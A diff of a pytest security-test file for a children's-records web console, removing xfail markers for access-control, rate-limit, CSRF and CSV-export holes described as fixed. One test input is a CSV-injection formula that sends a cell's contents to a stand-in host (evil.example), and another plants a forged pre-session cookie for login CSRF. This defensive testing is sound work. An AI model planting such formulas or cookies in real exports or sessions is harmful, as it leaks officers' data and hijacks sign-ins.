@@ -1,5 +1,5 @@
 """Attacks on the web console through a test client. A test that passes is a promise that held; a confirmed hole is
-marked xfail(strict=True) with its reason, so that it fails loudly (XPASS) the day it is fixed."""
+marked xfail(strict=True) with its reason until it was fixed; all of them are fixed now."""
 
 import datetime as dt
 import re
@@ -112,8 +112,6 @@ def test_a_cookie_replayed_after_sign_out_or_revocation_is_dead(console, platfor
     assert console.app.state.console_sessions.get(cookie) is None and token
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (low): signing in over a live session does not end it on the server: "
-                                       "the previous user's cookie stays valid (until 15 min idle / 8 h)")
 def test_a_replayed_cookie_cannot_be_used_after_the_same_browser_signs_in_again(console, platform):
     """A shared office PC: user A walks away signed in, user B signs in on the same browser. A's old cookie (copied
     earlier) should be dead: signing in replaces the browser's session, so the old one should end on the server."""
@@ -123,8 +121,6 @@ def test_a_replayed_cookie_cannot_be_used_after_the_same_browser_signs_in_again(
     assert console.app.state.console_sessions.get(old) is None
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: sign-in attempts are not limited: 60 wrong tokens from one client in a "
-                                       "row are all answered 401 (and each writes an audit row); no 429, no lock-out")
 def test_sign_in_attempts_are_rate_limited(console, platform):
     page = console.get("/console/login")
     token = csrf(page.text)
@@ -225,33 +221,22 @@ def test_a_school_signing_in_sees_only_what_its_purpose_allows(console, platform
         assert console.get(url).status_code == 403, url
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: /console/ledger and /console/alerts check no role: any role with a "
-                                       "same-area purpose (a downstream app's machine token, a school, a health "
-                                       "worker) signs in and gets the director's ledger: which children are key "
-                                       "children, a computed risk level and overdue contact/visit deadlines")
-@pytest.mark.parametrize("role,purpose", [("downstream_app", "entitlement_matching"), ("school", "enrolment"),
-                                          ("health_worker", "health_management")])
+def test_a_machine_token_cannot_sign_in(console, platform, key):
+    """A downstream app's or a department system's token is for the API, not for a person's console."""
+    for name, role in (("app-1", "downstream_app"), ("civil_affairs:sys1", "department_system")):
+        console.cookies.clear()
+        token = issue_token(platform.database, name, role, "330106")
+        page = console.get("/console/login")
+        r = console.post("/console/login", data={"csrf": csrf(page.text), "token": token}, follow_redirects=False)
+        assert r.status_code == 401 and "cc_session" not in r.headers.get("set-cookie", ""), role
+
+
+@pytest.mark.parametrize("role,purpose", [("school", "enrolment"), ("health_worker", "health_management")])
 def test_the_directors_ledger_and_alerts_are_for_directors_only(console, platform, key, role, purpose):
     sign_in(console, platform, role, area="330106", purpose=purpose)
     for url in ("/console/ledger?everyone=1", "/console/alerts"):
         page = console.get(url)
         assert page.status_code == 403 and key not in page.text, (role, url)
-
-
-def test_a_department_system_token_signs_in_to_nothing(console, platform, key):
-    """A department system's machine token is accepted at sign-in (see the report), but has no purpose and so
-    reaches no page and no child."""
-    token = issue_token(platform.database, "civil_affairs:sys1", "department_system", AREA)
-    page = console.get("/console/login")
-    r = console.post("/console/login", data={"csrf": csrf(page.text), "token": token}, follow_redirects=False)
-    assert r.status_code == 303
-    purposes = console.get("/console/purpose")
-    assert "你的角色没有可用的访问目的" in purposes.text
-    for chosen in ("ingest", "key_child_care", ""):
-        assert console.post("/console/purpose", data={"csrf": csrf(purposes.text), "purpose": chosen}).status_code == 403
-    for url in ("/console/ledger", "/console/search", "/console/child/" + key, "/console/alerts"):
-        r = console.get(url, follow_redirects=False)
-        assert r.status_code == 303 and r.headers["location"] == "/console/purpose", url
 
 
 def test_purposes_of_another_role_are_refused_for_every_role(console, platform):
@@ -306,8 +291,6 @@ def test_statistics_parameters_neither_reflect_nor_crash(console, platform, key,
         r.headers["content-type"].startswith("application/json") and r.headers["x-content-type-options"] == "nosniff")
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (low): a console query parameter that is not an integer (threshold=abc) "
-                                       "gets FastAPI's JSON validation error echoing the input, not a console page")
 @pytest.mark.parametrize("url", ["/console/statistics?threshold=abc", "/console/compliance?threshold=abc",
                                  "/console/compliance/export.csv?threshold=" + ID_NUMBER + "x"])
 def test_a_malformed_query_parameter_gets_a_page_that_echoes_nothing(console, platform, url):
@@ -366,9 +349,6 @@ def test_no_redirect_leaves_the_site(console, platform):
     assert r.headers["location"] == "/console/"
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (low): the compliance query form is a GET form, so an ID number typed "
-                                       "into its 儿童编号 box goes into the URL (history, proxy and access logs) "
-                                       "before the page refuses it; the README promises ID numbers are never in a URL")
 def test_the_compliance_child_box_does_not_send_what_is_typed_in_a_url(console, platform):
     sign_in(console, platform, "compliance", area=None, purpose="compliance_review")
     page = console.get("/console/compliance").text
@@ -505,8 +485,6 @@ def test_an_audit_failure_refuses_search_and_the_visit_form(console, platform, k
     assert r.status_code == 503 and console.ctx.publisher.sent == []
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (low): when the audit write fails at sign-in, the console answers with the "
-                                       "API's JSON 503 (with the exception text) instead of its page; no session is made")
 def test_an_audit_failure_at_sign_in_is_a_page_not_a_crash_and_grants_no_session(console, platform, monkeypatch):
     token = issue_token(platform.database, "d1", "children_director", AREA)
     page = console.get("/console/login")
@@ -527,9 +505,6 @@ def test_every_data_page_view_writes_an_audit_record(console, platform, key):
 
 # --- CSV export ----------------------------------------------------------------------------------------------------
 
-@pytest.mark.xfail(strict=True, reason="HOLE: the compliance CSV export writes cells as they are: an actor name "
-                                       "(or any text) starting with =, +, - or @ is a live formula when the officer "
-                                       "opens audit.csv in Excel/WPS (CSV injection)")
 def test_the_csv_export_neutralises_formula_cells(console, platform, key):
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     sign_in(console, platform, "children_director", area=AREA, name=evil, purpose="key_child_care")
@@ -584,9 +559,6 @@ def test_a_wrong_token_and_an_id_number_in_a_path_never_reach_the_page_or_the_tr
     assert guess not in trail and ID_NUMBER not in trail and ID_NUMBER[:-1] not in trail
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: the console bypasses the API's per-principal rate limit (50/s, burst "
-                                       "200 by default): a signed-in token reads child pages without limit, where the same token "
-                                       "on /children/{key} gets 429")
 def test_the_console_is_held_to_the_same_per_principal_rate_limit_as_the_api(console, platform, key):
     from services.api.deps import RateLimiter
 
@@ -599,8 +571,6 @@ def test_the_console_is_held_to_the_same_per_principal_rate_limit_as_the_api(con
     assert 429 in pages  # ... and the console should answer the same way
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: a non-ASCII csrf value makes hmac.compare_digest raise TypeError: "
-                                       "every form (sign-in too) answers 500 instead of the CSRF refusal page")
 @pytest.mark.parametrize("url", ["/console/login", "/console/purpose", "/console/search", "/console/logout",
                                  "/console/child/{key}/visit"])
 def test_a_non_ascii_csrf_value_is_refused_not_a_crash(console, platform, key, url):
@@ -620,10 +590,6 @@ def test_the_csv_export_is_an_uncached_attachment_that_a_browser_will_not_render
     assert r.headers["content-disposition"].startswith("attachment") and r.headers["content-type"].startswith("text/csv")
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (low, hardening): the pre-session cookie is whatever the browser sends, "
-                                       "so anyone who can plant a cookie (a sibling host on the office network: no "
-                                       "__Host- prefix) can pair it with a sign-in CSRF token of their own and sign "
-                                       "the victim in as the attacker (login CSRF)")
 def test_a_pre_session_value_the_server_never_issued_is_refused(console, platform):
     planted = "planted-by-a-sibling-host"
     attacker_page = console.get("/console/login", cookies={"cc_pre": planted})  # the attacker learns its csrf value
